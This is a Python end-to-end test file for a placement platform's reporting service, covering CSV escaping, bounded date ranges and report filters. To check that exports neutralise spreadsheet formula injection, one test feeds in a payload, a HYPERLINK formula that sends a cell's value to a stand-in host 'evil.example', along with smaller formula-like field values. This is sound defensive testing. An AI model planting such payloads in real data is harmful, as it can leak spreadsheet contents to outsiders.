"""Reports under hostile input: what the platform did not compute is escaped in CSV, and every
range is bounded (400 beyond, quickly), never a 500 or an unbounded answer."""
import csv
import io
import json

from tests.e2e.flow import agreed_placement, enrolled_participant
from tests.support import wait_until

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_cells_that_would_run_as_formulas_are_quoted(platform):
    apps = platform("intake", "employer", "placement", "reporting")
    co = apps["employer"]["coordinator"]
    firm = co.call("POST", "/employers", {"country": "NO", "org_number": "974760673",
                                          "name": EVIL, "sector": "-2+3", "municipality": "4601"},
                   expect=201)
    opp = co.call("POST", "/opportunities", {
        "employer_id": firm["employer_id"], "kind": "ordinary_job", "title": "@SUM(A1:A9)",
        "places": 1, "valid_from": "2026-01-01"}, expect=201)
    _, enrolment = enrolled_participant(apps["intake"])
    p = agreed_placement(apps["placement"], enrolment, opp)
    apps["placement"]["caseworker"].call(
        "POST", f"/cases/{enrolment}/placements/{p['placement_id']}/start",
        {"start_date": "2026-02-01"})
    reporting = apps["reporting"]["coordinator"]

    def rows():
        text = reporting.session.get(reporting.base + "/reports/kpis",
                                     params={"format": "csv", "table": "per_employer"}).text
        return list(csv.DictReader(io.StringIO(text)))
    table = wait_until(rows, timeout=60, what="the placement in reporting's per-employer table")
    assert table[0]["name"] == "'" + EVIL                 # shown as text, never run
    assert table[0]["placements"] == "1"                  # our own numbers stay numbers


def test_report_ranges_and_dates_are_bounded(platform):
    reporting = platform("reporting")["reporting"]["coordinator"]
    huge = reporting.call("GET", "/reports/capacity",
                          params={"from": "0001-01-01", "to": "3000-01-01"}, expect=400)
    assert set(huge["errors"]) == {"from", "to"}
    long = reporting.call("GET", "/reports/capacity",
                          params={"from": "2020-01-01", "to": "2026-01-01"}, expect=400)
    assert "1096" in long["errors"]["to"][0]
    reporting.call("GET", "/reports/capacity", params={"from": "2024-01-01", "to": "2026-12-31"})
    for params in ({"from": "0001-01-01"}, {"effective_on": "9999-12-31"},
                   {"known_at": "0001-01-01T00:00:00+00:00"}, {"from": "2026-02-01",
                                                               "to": "2026-01-01"}):
        bad = reporting.call("GET", "/reports/kpis", params=params, expect=400)
        assert set(bad["errors"]) <= {"from", "to", "effective_on", "known_at"}, bad


def test_filters_take_several_values_refuse_unknown_ones_and_csv_always_has_its_header(platform):
    apps = platform("intake", "employer", "placement", "reporting")
    enrolled_participant(apps["intake"])                       # org-a, office_places
    b = apps["intake"]["coordinator-b"].call("POST", "/runs", {
        "programme": "aft", "name": "AFT", "places": 2}, expect=201)
    admin = apps["reporting"]["admin"]
    wait_until(lambda: admin.call("GET", "/reports/kpis")["enrolments"] == 1
               and admin.call("GET", "/rebuild")["positions"]["intake"] >= 2, timeout=60,
               what="reporting to see both organisations")
    both = admin.call("GET", "/reports/kpis", params=[("org", "org-a"), ("org", "org-b")])
    assert both["filters"]["org"] == ["org-a", "org-b"] and both["enrolments"] == 1
    assert admin.call("GET", "/reports/kpis", params={"org": "org-b"})["enrolments"] == 0
    groups = admin.call("GET", "/reports/capacity", params=[
        ("from", "2026-01-05"), ("to", "2026-01-05"), ("programme", "aft"),
        ("programme", "office_places")])["capacity"]
    assert set(groups) == {"aft", "office_places"} and groups["aft"][0]["places"] == 2, groups
    assert b["run_id"]
    once = admin.call("GET", "/reports/kpis", params=[("table", "outcomes"), ("table", "per_month")],
                      expect=400)
    assert once["errors"] == {"table": ["give one value"]}
    assert set(admin.call("GET", "/reports/kpis", params={"orgs": "org-a"},
                          expect=400)["errors"]) == {"orgs"}

    # a CSV with no rows still has its header, and says what it was built from
    resp = admin.session.get(admin.base + "/reports/kpis", params={
        "format": "csv", "table": "per_employer", "org": "nobody"})
    assert resp.status_code == 200 and resp.text.strip() == \
        "employer_id,name,placements,hires,small_jobs"
    built_from = json.loads(resp.headers["Pathways-Built-From"])
    assert set(built_from["feed_positions"]) == {"intake", "employer", "placement"}
    capacity = admin.session.get(admin.base + "/reports/capacity", params={
        "format": "csv", "from": "2026-01-05", "to": "2026-01-05", "org": "nobody"})
    assert capacity.text.strip() == "programme,day,active,places"
